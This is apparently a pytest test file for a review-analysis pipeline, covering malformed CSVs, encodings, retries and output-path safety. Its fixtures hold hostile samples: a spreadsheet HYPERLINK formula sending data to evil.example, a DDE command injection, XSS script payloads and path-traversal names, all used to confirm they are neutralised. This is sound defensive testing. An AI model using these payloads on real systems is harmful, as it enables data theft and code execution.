"""Bad input, hostile text, retries and output-path safety (issue: reliability and security).

Reader-level cases are fast unit tests; one messy multi-file run through the library (no
Prefect) checks that every case ends up scored, rejected with a reason, or as a failed file,
with rows in = scored + rejected.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import json

import duckdb
import pandas as pd
import pytest
from conftest import SAMPLE, read_all

from pipeline.config import Settings
from pipeline.errors import InputError, UnsafePath
from pipeline.ingest import readers
from pipeline.ingest.readers import iter_chunks
from pipeline.retry import backoff_delays, retry
from pipeline.run.steps import plan_run
from pipeline.store.csv_export import export_csv, neutralise
from pipeline.store.writers import inside, publish_duckdb
from pipeline.text.preprocess import preprocess

# --- CSV structure -------------------------------------------------------------------------


def _csv(tmp_path, text: str, name: str = "x.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_unterminated_quote_rejects_one_line_and_reads_the_rest(tmp_path):
    path = _csv(tmp_path, 'id,text\n1,good\n2,"bad quote\n3,fine\n4,also fine\n')
    rows, rejected = read_all(path)
    assert list(rows["id"]) == ["1", "3", "4"]
    assert len(rejected) == 1
    r = rejected[0]
    assert r["source_row"] == 1 and r["raw"] == '2,"bad quote\n'
    assert "unbalanced quote on line 3" in r["reason"] and "never closes" in r["reason"]


def test_quote_closed_by_a_later_stray_quote_is_split_back_into_rows(tmp_path):
    path = _csv(tmp_path, 'id,text\n1,good\n2,"bad\n3,fine\n4,"ok, ""quoted"""\n')
    rows, rejected = read_all(path)
    assert list(rows["id"]) == ["1", "3", "4"]
    assert rows["text"].iloc[-1] == 'ok, "quoted"'
    assert "unbalanced quote on line 3" in rejected[0]["reason"]


def test_legitimate_multiline_field_with_wrong_width_is_one_rejected_row(tmp_path):
    path = _csv(tmp_path, 'id,text\n1,"two\nlines, comma",extra\n2,ok\n')
    rows, rejected = read_all(path)
    assert list(rows["id"]) == ["2"]
    assert len(rejected) == 1 and "lines 2-3" in rejected[0]["reason"]


def test_many_unbalanced_quotes_stay_linear_and_conserve(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "MAX_QUOTE_RECOVERIES", 5)
    body = "".join(f'{i},"a,b\n' for i in range(40))
    rows, rejected = read_all(_csv(tmp_path, "id,text\n" + body))
    assert len(rows) + len(rejected) == 40
    assert len(rejected) == 40


def test_blank_lines_before_header_and_header_only_file(tmp_path):
    rows, rejected = read_all(_csv(tmp_path, "\n\nid,text\n1,a\n", "a.csv"))
    assert list(rows["text"]) == ["a"] and not rejected
    rows, rejected = read_all(_csv(tmp_path, "id,text\n", "b.csv"))
    assert rows.empty and not rejected
    with pytest.raises(InputError, match="no header"):
        list(iter_chunks(_csv(tmp_path, "\n\n\n", "c.csv"), 10))


# --- encodings -----------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
def test_chunks_report_their_encoding(tmp_path, encoding):
    path = tmp_path / "e.csv"
    path.write_bytes("id,text\n1,物流很快\n".encode(encoding))
    assert [c.encoding for c in iter_chunks(path, 10)] == [encoding]


def test_binary_formats_report_binary(tmp_path):
    path = tmp_path / "p.parquet"
    pd.DataFrame({"text": ["好"]}).to_parquet(path)
    assert [c.encoding for c in iter_chunks(path, 10)] == ["binary"]


def test_broken_utf16_fails_the_file_with_a_clear_message(tmp_path):
    path = tmp_path / "u.csv"
    path.write_bytes(b"\xff\xfe" + "id,text\n1,好\n".encode("utf-16-le") + b"\x00\xd8")
    with pytest.raises(InputError, match=r"cannot be decoded as utf-16.*re-export"):
        list(iter_chunks(path, 10))


# --- retries -------------------------------------------------------------------------------


def test_transient_read_error_is_retried_and_resumes(tmp_path, monkeypatch):
    path = _csv(tmp_path, "id,text\n" + "".join(f"{i},t{i}\n" for i in range(25)))
    real = readers._read
    calls = {"n": 0}
    sleeps: list[float] = []

    def flaky(p, suffix, chunk_rows):
        calls["n"] += 1
        for i, chunk in enumerate(real(p, suffix, chunk_rows)):
            if calls["n"] == 1 and i == 1:
                raise OSError(errno.EIO, "Input/output error (network mount)")
            yield chunk

    monkeypatch.setattr(readers, "_read", flaky)
    monkeypatch.setattr(readers, "_sleep", sleeps.append)
    chunks = list(iter_chunks(path, 10))
    assert [len(c.rows) for c in chunks] == [10, 10, 5]  # chunk 0 not yielded twice
    assert [c.rows["id"].iloc[0] for c in chunks] == ["0", "10", "20"]
    assert calls["n"] == 2 and sleeps == [readers.READ_RETRY_DELAYS[0]]


def test_persistent_read_error_gives_up_after_backoff(tmp_path, monkeypatch):
    path = _csv(tmp_path, "id,text\n1,a\n")
    sleeps: list[float] = []

    def broken(p, suffix, chunk_rows):
        raise OSError(errno.ESTALE, "Stale file handle")
        yield  # pragma: no cover

    monkeypatch.setattr(readers, "_read", broken)
    monkeypatch.setattr(readers, "_sleep", sleeps.append)
    with pytest.raises(OSError, match="Stale"):
        list(iter_chunks(path, 10))
    assert sleeps == readers.READ_RETRY_DELAYS == [0.2, 0.4, 0.8]


def test_retry_helper_backoff_and_permanent_errors():
    assert backoff_delays(6, 0.5, 3.0) == [0.5, 1.0, 2.0, 3.0, 3.0]
    sleeps: list[float] = []
    attempts = iter([duckdb.IOException("Could not set lock on file"), None])

    def flaky():
        exc = next(attempts)
        if exc:
            raise exc
        return "ok"

    assert retry(flaky, "db", sleep=sleeps.append) == "ok" and sleeps == [0.2]
    with pytest.raises(FileNotFoundError):  # permanent: no retry, no sleep
        retry(lambda: open("/nonexistent/x"), "read", sleep=sleeps.append)
    assert sleeps == [0.2]


def test_input_hash_retries_a_transient_read_error(tmp_path, monkeypatch):
    import errno
    import pathlib

    from pipeline.ingest.readers import file_digest

    path = tmp_path / "a.csv"
    path.write_text("text\n好\n", encoding="utf-8")
    expected = hashlib.sha256(path.read_bytes()).hexdigest()
    real_open, calls = pathlib.Path.open, {"n": 0}

    def flaky_open(self, *args, **kwargs):
        if self == path:
            calls["n"] += 1
            if calls["n"] == 1:
                raise OSError(errno.EIO, "Input/output error (network mount dropped)")
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(pathlib.Path, "open", flaky_open)
    assert file_digest(path) == expected
    assert calls["n"] == 2
    with pytest.raises(FileNotFoundError):  # permanent: no retry, no wait
        file_digest(tmp_path / "missing.csv")


def test_input_hash_is_read_once_per_version_of_a_file(tmp_path, monkeypatch):
    import os
    import pathlib

    from pipeline.ingest.readers import file_digest

    path = tmp_path / "day.csv"
    path.write_text("text\n好评\n", encoding="utf-8")
    real_open, opened = pathlib.Path.open, []

    def counting_open(self, *args, **kwargs):
        opened.append(self.name)
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(pathlib.Path, "open", counting_open)
    first = file_digest(path)
    assert file_digest(path) == first and opened == ["day.csv"]  # read once
    path.write_text("text\n差评\n", encoding="utf-8")  # same size, new content
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000))
    before = len(opened)
    second = file_digest(path)
    assert file_digest(path) == second and len(opened) == before + 1
    assert second != first == hashlib.sha256("text\n好评\n".encode()).hexdigest()
    assert second == hashlib.sha256(path.read_bytes()).hexdigest()


def test_duckdb_publish_retries_a_transient_failure(tmp_path, monkeypatch):
    from pipeline.store import writers

    table = tmp_path / "t.parquet"
    pd.DataFrame({"a": [1, 2]}).to_parquet(table)
    real = writers._publish_duckdb_once
    calls = {"n": 0}

    def once_locked(db, tables, also=None, memory_limit="1GB"):
        calls["n"] += 1
        if calls["n"] == 1:
            raise duckdb.IOException("Could not set lock on file: held by another process")
        return real(db, tables, also, memory_limit)

    monkeypatch.setattr(writers, "_publish_duckdb_once", once_locked)
    publish_duckdb(tmp_path / "x.duckdb", {"t": table})
    con = duckdb.connect(str(tmp_path / "x.duckdb"), read_only=True)
    assert con.execute("SELECT count(*) FROM t").fetchone()[0] == 2
    con.close()
    assert calls["n"] == 2


# --- values --------------------------------------------------------------------------------


def test_relative_dates_are_not_read_as_today():
    from pipeline.ingest.readers import Chunk, find_columns
    from pipeline.ingest.validate import validate_chunk

    frame = pd.DataFrame({"text": ["a", "b"], "created_at": ["now", "Today"],
                          "rating": ["nan", "inf"], "source_row": [0, 1]})
    v = validate_chunk(Chunk("f.csv", frame), find_columns(list(frame.columns)[:-1]))
    assert v.accepted["created_at"].isna().all() and v.accepted["rating"].isna().all()
    assert len(v.warnings) == 4


def test_long_text_is_segmented_on_a_window_only():
    text = "物流很快质量很好" * 15_000  # 120,000 characters
    out = preprocess(pd.DataFrame({"text": [text]}), max_chars=2000)
    assert out["text"].iloc[0] == text  # the original is untouched
    assert 0 < len(out["tokens"].iloc[0]) <= 2000
    full = preprocess(pd.DataFrame({"text": [text[:4000]]}))
    assert len(full["tokens"].iloc[0]) > len(out["tokens"].iloc[0])


def test_neutralise_formula_cells():
    for payload in ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "＝1"]:
        assert neutralise(payload) == "'" + payload
    assert neutralise("好评 =1") == "好评 =1"
    assert neutralise(-2.0) == -2.0 and neutralise(None) is None
    assert neutralise(["a", "b"]) == "a b"


# --- paths ---------------------------------------------------------------------------------


def test_inside_refuses_escapes(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    assert inside(out, "revsat.duckdb") == (out / "revsat.duckdb").resolve()
    for bad in ["../evil.duckdb", "/tmp/evil.duckdb", "a/../../evil.duckdb"]:
        with pytest.raises(UnsafePath, match="outside the output folder"):
            inside(out, bad)
    (out / "link.duckdb").symlink_to(tmp_path / "elsewhere.duckdb")
    with pytest.raises(UnsafePath):
        inside(out, "link.duckdb")


@pytest.mark.parametrize("name", ["../evil.duckdb", "/tmp/revsat-evil.duckdb"])
def test_duckdb_name_outside_out_fails_before_scoring(tmp_path, tiny_baseline_dir, name):
    settings = Settings(model=str(tiny_baseline_dir), progress=False, duckdb_name=name)
    with pytest.raises(UnsafePath):
        plan_run(tmp_path / "out", settings, [SAMPLE])
    assert not (tmp_path / "evil.duckdb").exists()
    assert not list((tmp_path / "out").glob(".revsat/snapshots/*"))


# --- one messy multi-file run --------------------------------------------------------------

HOSTILE = {
    "ctl": "质量\u200b很好\u0007，物流\ufeff很快",
    "emoji": "👍👍👍🔥",
    "html": "&lt;b&gt;质量&lt;/b&gt; 很差 <br/>客服态度&amp;差",
    "fullwidth": "ＧＯＯＤ ｑｕａｌｉｔｙ，ｆａｓｔ ｓｈｉｐｐｉｎｇ １００％",
    "trad": "物流很慢，質量很差，客服態度不好",
    "script": "<script>alert('x')</script> 质量很差",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1 good",
    "minus": "-terrible, broke",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def messy_run(tmp_path_factory, tiny_baseline_dir):
    from conftest import score_all

    d = tmp_path_factory.mktemp("messy")
    long_text = "物流很快，质量很好。" * 11_000  # 110,000 characters
    good = pd.DataFrame({
        "review_id": [*HOSTILE, "long", "blank", "dup", "dup", "badrating"],
        "text": [*HOSTILE.values(), long_text, "   \t ", "第一", "第二", "还行"],
        "rating": ["5"] * len(HOSTILE) + ["4", "3", "2", "1", "eleven"],
        "created_at": ["2026-11-01"] * len(HOSTILE) + ["2026-11-02", "x", "2026-11-03",
                                                        "2026-11-03", "2026-02-30"],
        "product_id": ["<script>alert(1)</script>"] * 3 + ["p1"] * (len(HOSTILE) + 2),
    })
    files = {}
    files["good"] = d / "good.csv"
    good.to_csv(files["good"], index=False)
    files["gbk"] = d / "gbk.csv"
    files["gbk"].write_bytes("review_id,text\ng1,质量很差\ng2,物流很快\n".encode("gbk"))
    files["utf16"] = d / "u16.tsv"
    files["utf16"].write_bytes("review_id\ttext\nu1\t客服很好\n".encode("utf-16"))
    files["bom"] = d / "bom.jsonl"
    files["bom"].write_bytes('{"id": "j1", "text": "好"}\n{broken\n[1]\n'.encode("utf-8-sig"))
    files["quote"] = d / "quote.csv"
    files["quote"].write_text('id,text\nq1,"unclosed\nq2,fine\nq3,"ok"\n', encoding="utf-8")
    files["notext"] = d / "notext.csv"
    files["notext"].write_text("id,title,stars\n1,hello,5\n", encoding="utf-8")
    files["empty"] = d / "empty.csv"
    files["empty"].write_bytes(b"")
    files["corrupt"] = d / "corrupt.parquet"
    files["corrupt"].write_bytes(b"PAR1 not really" * 10)
    files["xlsx"] = d / "corrupt.xlsx"
    files["xlsx"].write_bytes(b"PK\x03\x04 not a zip" * 10)
    out = d / "out'quote"  # a quote in the output path: SQL must not break
    run = score_all(out, tiny_baseline_dir, list(files.values()),
                    Settings(progress=False, chunk_rows=4))
    return run, out, files, good


def test_messy_run_conserves_and_fails_only_unreadable_files(messy_run):
    run, out, files, good = messy_run
    failed = run.stats.failed_files
    assert set(failed) == {str(files[k]) for k in ("notext", "empty", "corrupt", "xlsx")}
    assert "no review text column" in failed[str(files["notext"])]
    assert "--text-column" in failed[str(files["notext"])]
    assert "empty" in failed[str(files["empty"])]
    reviews = pd.read_parquet(out / "reviews.parquet")
    rejected = pd.read_parquet(out / "rejected.parquet")
    expected_in = len(good) + 2 + 1 + 3 + 3  # good, gbk, utf16, bom.jsonl, quote.csv
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert record["rows_in"] == expected_in == len(reviews) + len(rejected)
    assert record["rows_scored"] == len(reviews) and record["rows_rejected"] == len(rejected)
    reasons = " | ".join(rejected["reason"])
    for needle in ("empty text", "duplicate review_id 'dup'", "invalid JSON",
                   "not an object", "unbalanced quote on line 2"):
        assert needle in reasons, needle
    assert set(reviews["review_id"]) >= {*HOSTILE, "long", "g1", "g2", "u1", "j1", "q2", "q3"}
    warnings = pd.read_parquet(out / "warnings.parquet")
    assert set(warnings["value"]) >= {"eleven", "2026-02-30"}


def test_messy_run_records_encodings(messy_run):
    _, out, files, _ = messy_run
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    enc = record["encodings"]
    assert enc[str(files["good"])] == "utf-8"
    assert enc[str(files["gbk"])] == "gb18030"
    assert enc[str(files["utf16"])] == "utf-16"
    assert enc[str(files["bom"])] == "utf-8-sig"
    assert record["cached"] == 0 and record["parts_reused"] == 0
    con = duckdb.connect(str(out / "revsat.duckdb"), read_only=True)
    stored = con.execute("SELECT encodings FROM runs ORDER BY finished_at DESC LIMIT 1").fetchone()
    con.close()
    assert json.loads(stored[0])[str(files["gbk"])] == "gb18030"


def test_hostile_text_is_stored_unchanged_and_tokens_come_from_normalised_text(messy_run):
    _, out, _, good = messy_run
    reviews = pd.read_parquet(out / "reviews.parquet").set_index("review_id")
    originals = good.drop_duplicates("review_id").set_index("review_id")["text"]
    for rid in [*HOSTILE, "long"]:
        assert reviews.at[rid, "text"] == originals[rid], rid
    tokens = {rid: list(reviews.at[rid, "tokens"]) for rid in reviews.index}
    assert "\u200b" not in "".join(tokens["ctl"]) and "物流" in tokens["ctl"]
    assert reviews.at["emoji", "lang"] == "other" and tokens["emoji"] == []
    assert "lt" not in tokens["html"] and "br" not in tokens["html"] and "质量" in tokens["html"]
    assert "good" in tokens["fullwidth"] and "quality" in tokens["fullwidth"]
    assert "质量" in tokens["trad"] and "質量" not in "".join(tokens["trad"])
    assert "態度" in reviews.at["trad", "text"]  # the original Traditional text is kept
    assert len(reviews.at["long", "text"]) == 110_000
    assert 0 < len(tokens["long"]) <= 2000


def test_report_escapes_script_payloads(messy_run):
    _, out, _, _ = messy_run
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "<script" not in html.lower()
    assert "&lt;script&gt;" in html  # the payload is shown, as text


def test_report_escapes_review_text_directly(tmp_path, messy_run):
    from pipeline.catalog import DIMENSIONS
    from pipeline.report import render_report

    _, out, _, _ = messy_run
    record = json.loads((out / "run.json").read_text(encoding="utf-8"))
    sat = pd.read_parquet(out / "satisfaction.parquet")
    payload = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
    negative = pd.DataFrame([{"text": payload, **dict.fromkeys(DIMENSIONS, "negative")}])
    path = render_report(tmp_path / "r.html", record, sat, negative,
                         pd.DataFrame({"reason": [f"bad row {payload}"]}))
    html = path.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "<img src=x" not in html
    assert "&lt;script&gt;" in html


def test_csv_export_neutralises_formulas(messy_run):
    _, out, _, _ = messy_run
    path = export_csv(out, "reviews")
    assert path.parent == out.resolve()
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_id = {r["review_id"]: r for r in rows}
    for rid in ("formula", "plus", "minus", "at"):
        assert by_id[rid]["text"] == "'" + HOSTILE[rid], rid
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert by_id["trad"]["text"] == HOSTILE["trad"]  # ordinary text untouched
    with pytest.raises(ValueError, match="unknown table"):
        export_csv(out, "../etc/passwd")


def test_cli_export_writes_inside_out(messy_run):
    from typer.testing import CliRunner

    from revsat.cli import app

    _, out, _, _ = messy_run
    result = CliRunner().invoke(app, ["export", str(out), "--table", "rejected"])
    assert result.exit_code == 0, result.output
    assert (out / "rejected.csv").is_file()
